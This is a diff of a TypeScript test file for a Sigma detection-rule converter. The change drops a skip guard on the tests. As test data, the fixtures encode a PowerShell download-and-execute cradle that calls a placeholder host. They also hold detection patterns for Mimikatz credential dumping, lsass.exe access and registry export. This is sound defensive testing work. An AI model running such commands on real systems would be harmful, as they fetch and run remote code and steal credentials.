@@ -6,17 +6,14 @@ import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { existsSync } from 'node:fs';
 import { join } from 'node:path';
-import { datasetsDir, projectRoot } from '../../../core/index.js';
+import { datasetsDir } from '../../../core/index.js';
+import { compileRuleSet } from '../../rules/index.js';
 import { loadSigmaRules, type RuleDoc } from '../index.js';
 import { mustConvert, ruleYaml } from './helpers.js';
-
-const engineThere = existsSync(join(projectRoot(), 'lib', 'rules', 'index.ts'));
-const SKIP = engineThere ? false : 'the rule engine (lib/rules) is not there yet';
 
 type Ev = Record<string, unknown> & { type: string };
 
 async function firing(rule: RuleDoc, events: Ev[]): Promise<boolean[]> {
-  const { compileRuleSet } = await import('../../rules/index.js');
   const set = compileRuleSet([rule]);
   assert.deepEqual(set.issues, [], 'the converted rule compiles');
   return events.map((e) => {
@@ -34,7 +31,7 @@ const proc = (image: string, cmdline: string, extra: Record<string, unknown> = {
   raw: { Image: image, CommandLine: cmdline },
 });
 
-test('windash and endswith match every dash form on the normalized process fields', { skip: SKIP }, async () => {
+test('windash and endswith match every dash form on the normalized process fields', async () => {
   const rule = mustConvert(ruleYaml(`sel:\n  Image|endswith: '\\reg.exe'\n  CommandLine|windash|contains: ' -export '\ncondition: sel`));
   assert.deepEqual(
     await firing(rule, [
@@ -49,7 +46,7 @@ test('windash and endswith match every dash form on the normalized process field
   );
 });
 
-test('wide|base64offset finds a UTF-16 string inside any -EncodedCommand payload', { skip: SKIP }, async () => {
+test('wide|base64offset finds a UTF-16 string inside any -EncodedCommand payload', async () => {
   const rule = mustConvert(ruleYaml(`sel:\n  CommandLine|wide|base64offset|contains: 'Net.WebClient'\ncondition: sel`));
   const payload = (prefix: string): string =>
     Buffer.from(`${prefix}IEX (New-Object Net.WebClient).DownloadString('http://x/a')`, 'utf16le').toString('base64');
@@ -65,7 +62,7 @@ test('wide|base64offset finds a UTF-16 string inside any -EncodedCommand payload
   );
 });
 
-test('a Security logon rule: event ID, channel guard, cidr filter', { skip: SKIP }, async () => {
+test('a Security logon rule: event ID, channel guard, cidr filter', async () => {
   const rule = mustConvert(
     ruleYaml(
       `selection:\n  EventID: 4624\n  LogonType: 10\nfilter_local:\n  IpAddress|cidr:\n    - '10.0.0.0/8'\n    - '::1/128'\ncondition: selection and not 1 of filter_*`,
@@ -83,7 +80,7 @@ test('a Security logon rule: event ID, channel guard, cidr filter', { skip: SKIP
   );
 });
 
-test('keywords search every raw value; null means absent; fieldref compares fields', { skip: SKIP }, async () => {
+test('keywords search every raw value; null means absent; fieldref compares fields', async () => {
   const kw = mustConvert(ruleYaml(`keywords:\n  - 'sekurlsa::logonpasswords'\ncondition: keywords`, 'product: windows\n  service: system'));
   const sys = (data: Record<string, unknown>, channel = 'System'): Ev => ({ type: 'windows.event', raw: { Channel: channel, EventID: 7036, ...data } });
   assert.deepEqual(
@@ -107,7 +104,7 @@ test('keywords search every raw value; null means absent; fieldref compares fiel
   );
 });
 
-test('GrantedAccess is compared as the raw string; re is case-sensitive unless |i', { skip: SKIP }, async () => {
+test('GrantedAccess is compared as the raw string; re is case-sensitive unless |i', async () => {
   const pa = mustConvert(
     ruleYaml(`sel:\n  TargetImage|endswith: '\\lsass.exe'\n  GrantedAccess|endswith: '10'\ncondition: sel`, 'category: process_access\n  product: windows'),
   );
@@ -126,7 +123,7 @@ test('GrantedAccess is compared as the raw string; re is case-sensitive unless |
   assert.deepEqual(await firing(rei, events), [true, true]);
 });
 
-test('a real SigmaHQ rule fires on a matching process and not on a benign one', { skip: SKIP }, async (t) => {
+test('a real SigmaHQ rule fires on a matching process and not on a benign one', async (t) => {
   const file = join(datasetsDir(), 'sigma', 'rules', 'windows', 'process_creation', 'proc_creation_win_lolbin_unregmp2.yml');
   if (!existsSync(file)) {
     t.skip(`${file} not found (set VIGIL_DATASETS)`);
